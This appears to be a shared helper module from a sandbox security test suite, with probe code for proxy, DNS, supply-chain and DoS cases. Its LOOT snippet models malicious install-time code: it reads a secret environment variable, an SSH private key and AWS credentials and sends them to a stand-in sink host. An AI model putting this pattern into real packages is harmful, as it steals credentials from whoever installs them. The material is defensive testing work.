"""Shared parts of the network, DNS, supply-chain and dos cases (not a case: the loader
skips files starting with _).

`allow(...)` builds a `network.mode = "allow"` policy whose proxy asks the probe's dnsmasq
(every `*.probe.test` name answers with the sink's address) and may reach the probe's
loopback /24 (`allow_private`), so that a request the proxy lets through lands at the sink.
The sink's name is `sink.probe.test`; other names (`evil.probe.test`, ...) resolve to the
same sink, so *which* name the proxy let through is the whole question.

`PROXY` is code for the sandbox: raw requests to the proxy named by `http_proxy`.
"""

SINK = "sink.probe.test:{SINK_PORT}"


def allow(*rules, deny=(), private=("{CIDR}",)):
    return {"network": {"mode": "allow", "allow": list(rules or (SINK,)), "deny": list(deny),
                        "allow_private": list(private),
                        "nameservers": ["{DNS_HOST}:{DNS_PORT}"]}}


ALLOW = allow()

PROXY = r'''
def proxy_addr():
    u = os.environ.get("http_proxy") or os.environ.get("HTTP_PROXY") or ""
    hp = u.split("://", 1)[-1].rstrip("/")
    h, _, p = hp.rpartition(":")
    return (h.strip("[]"), int(p)) if p.isdigit() else None

def proxy_send(data, then=b"", timeout=5):
    """Send bytes to the proxy (and `then` after its first reply); the reply's first line,
    or why there was none."""
    addr = proxy_addr()
    if addr is None:
        return "no proxy in the environment"
    try:
        with socket.create_connection(addr, timeout=timeout) as s:
            s.sendall(data)
            got = s.recv(4096)
            if then and got:
                s.sendall(then)
                time.sleep(0.3)
                try:
                    got += b" | " + s.recv(4096)
                except OSError as e:
                    got += b" | " + ename(e).encode()
    except OSError as e:
        return ename(e)
    return got.split(b"\r\n")[0].decode("latin-1") if got else "closed without a reply"

def judge_reply(what, line):
    ok = line.startswith("HTTP/1.") and line.split()[1:2] and line.split()[1].startswith("2")
    out("ALLOWED" if ok else "DENIED", f"{what}: {line}")

def get(host, path=None, headers=""):
    """An absolute-form GET for http://host/<DATA> through the proxy, judged by its reply."""
    path = path if path is not None else "/x?d=" + DATA
    req = (f"GET http://{host}{path} HTTP/1.1\r\nHost: {host}\r\n{headers}"
           f"Connection: close\r\n\r\n").encode()
    judge_reply(f"GET http://{host}/", proxy_send(req))
'''

# a DNS query (A, recursion desired) for `name`, built by hand
DNS_QUERY = r'''
def dns_query(name, tcp=False):
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(
        bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00\x00\x01\x00\x01"
    return (len(q).to_bytes(2, "big") + q) if tcp else q
'''


def sink_decides(obs):
    """For sends whose fate only the sink knows (UDP, raw packets): reaching this scorer
    means no canary reached the sink (READ is checked first)."""
    sent = obs.tag("SENT")
    if sent is not None:
        return True, f"{sent}; nothing reached the sink"
    denied = obs.tag("DENIED")
    if denied is not None:
        return True, denied
    return None, "inconclusive: no PROBE line"


# What install-time code (setup.py, a build backend, a .pth) does in the supply-chain cases:
# gather every canary within reach, print it and post it to the sink. It is written into a
# file inside the sandbox, with the probe's constants baked in.
LOOT = r'''
def loot_source():
    return "\n".join([
        "import os, socket",
        "loot = os.environ.get('CORRAL_PROBE_SECRET', '') + ' ' + os.environ.get('PROBE_DATA', '')",
        f"for p in ({FAKE_HOME!r} + '/.ssh/id_ed25519', {FAKE_HOME!r} + '/.aws/credentials'):",
        "    try:",
        "        loot += ' ' + open(p).read()",
        "    except OSError:",
        "        pass",
        "print('LOOT', loot, flush=True)",
        "try:",
        f"    socket.create_connection(({SINK_HOST!r}, {SINK_PORT}), timeout=2).sendall(loot.encode())",
        "except OSError:",
        "    pass",
        f"open({SCRATCH!r} + '/loot-ran', 'w').write('yes')",
        ""])

def loot_ran():
    return os.path.exists(os.path.join(SCRATCH, "loot-ran"))
'''

# a wheel built by hand (no index, no build tools), files: {name: text}
WHEEL = r'''
def make_wheel(path, name, files):
    import zipfile
    dist = f"{name}-1.0.dist-info"
    files = dict(files)
    files[f"{dist}/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"
    files[f"{dist}/WHEEL"] = "Wheel-Version: 1.0\nGenerator: probe\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    files[f"{dist}/RECORD"] = "".join(f"{f},,\n" for f in files) + f"{dist}/RECORD,,\n"
    whl = os.path.join(path, f"{name}-1.0-py3-none-any.whl")
    with zipfile.ZipFile(whl, "w") as z:
        for f, text in files.items():
            z.writestr(f, text)
    return whl
'''


# Host facts are never printed by the info cases: the code prints a short hash of what it
# sees, and the scorer (on the host) hashes the host's own value to compare.
HASH = r'''
import hashlib
def h(b):
    return hashlib.sha256(b if isinstance(b, bytes) else b.encode()).hexdigest()[:16]
'''


def h(b):
    import hashlib
    return hashlib.sha256(b if isinstance(b, bytes) else b.encode()).hexdigest()[:16]


def host_file(path):
    try:
        with open(path, "rb") as f:
            return f.read()
    except OSError:
        return None


def same_as_host(obs, host_value, what):
    """Score an info case whose code printed `PROBE SEEN <hash>` (or DENIED)."""
    seen = obs.tag("SEEN")
    if seen is None:
        d = obs.tag("DENIED")
        return (True, d) if d is not None else (None, "inconclusive: no PROBE line")
    if host_value is None:
        return None, f"inconclusive: the host's {what} cannot be read here"
    if seen == h(host_value):
        return False, f"the sandbox sees the host's {what}"
    return True, f"the sandbox's {what} is not the host's"


# The dos controls: the same attack against a naive HTTP server the control starts on the
# host's loopback (a thread per connection, no timeouts, no caps, 256 fds; gone within 40 s),
# which is what the attack does to a server that is not guarded. (On the host, because the
# process tier lets no sandbox listen.) Sets TARGET, which the attack code uses instead of the proxy.
NAIVE = r'''
import subprocess
_naive_src = """
import os, resource, socket, threading
resource.setrlimit(resource.RLIMIT_NOFILE, (256, 256))
threading.Timer(40, os._exit, (0,)).start()     # never outlives the control
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(4096)
print(srv.getsockname()[1], flush=True)
def serve(c):
    buf, done = bytearray(), False
    while not done:
        b = c.recv(65536)        # no timeout, no size cap: the head is kept whole
        if not b:
            return
        buf += b
        done = b"\\r\\n\\r\\n" in buf[-len(b) - 3:]
    c.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 0\\r\\n\\r\\n")
while True:
    c, _ = srv.accept()          # out of fds or threads ends it: nobody guards either
    threading.Thread(target=serve, args=(c,), daemon=True).start()
"""
_naive = subprocess.Popen([sys.executable, "-c", _naive_src], stdout=subprocess.PIPE)
TARGET = ("127.0.0.1", int(_naive.stdout.readline()))
import atexit
atexit.register(_naive.kill)
'''


def target_code():
    return r'''
def target():
    return globals().get("TARGET") or proxy_addr()

def legit_request(timeout=4):
    """One ordinary request to the allowed name: the reply's first line, or why none."""
    t = f"sink.{DOMAIN}:{SINK_PORT}"
    try:
        with socket.create_connection(target(), timeout=timeout) as s:
            s.sendall(f"GET http://{t}/ok HTTP/1.1\r\nHost: {t}\r\nConnection: close\r\n\r\n".encode())
            got = s.recv(4096)
        return got.split(b"\r\n")[0].decode("latin-1") or "closed"
    except OSError as e:
        return ename(e)
'''
